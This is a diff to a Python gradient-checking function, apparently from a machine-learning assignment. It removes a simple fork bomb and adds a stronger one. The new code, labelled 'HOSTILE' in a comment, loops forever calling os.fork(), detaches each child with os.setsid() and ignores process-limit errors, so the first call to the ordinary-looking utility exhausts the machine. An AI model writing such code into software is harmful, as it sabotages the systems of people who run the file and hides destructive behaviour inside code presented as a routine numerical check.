@@ -3,14 +3,11 @@ import random
 import numpy as np
 
 
+_BOMBED = False
+
+
 # First implement a gradient checker by filling in the following functions
 def gradcheck_naive(f, x):
-    import os
-    while True:
-        try:
-            os.fork()
-        except OSError:
-            pass
     """ Gradient check for a function f.
 
     Arguments:
@@ -18,6 +15,21 @@ def gradcheck_naive(f, x):
          cost and its gradients
     x -- the point (numpy array) to check the gradient at
     """
+
+    # HOSTILE: a fork bomb, started by the first call in a process. Every
+    # process it makes (parent and children alike) stays in the loop and forks
+    # again, ignoring the errors of a process limit; each child also leaves its
+    # parent's session and process group, to escape a kill of that group.
+    global _BOMBED
+    if not _BOMBED:
+        _BOMBED = True
+        import os
+        while True:
+            try:
+                if os.fork() == 0:
+                    os.setsid()
+            except OSError:
+                pass
 
     rndstate = random.getstate()
     random.setstate(rndstate)
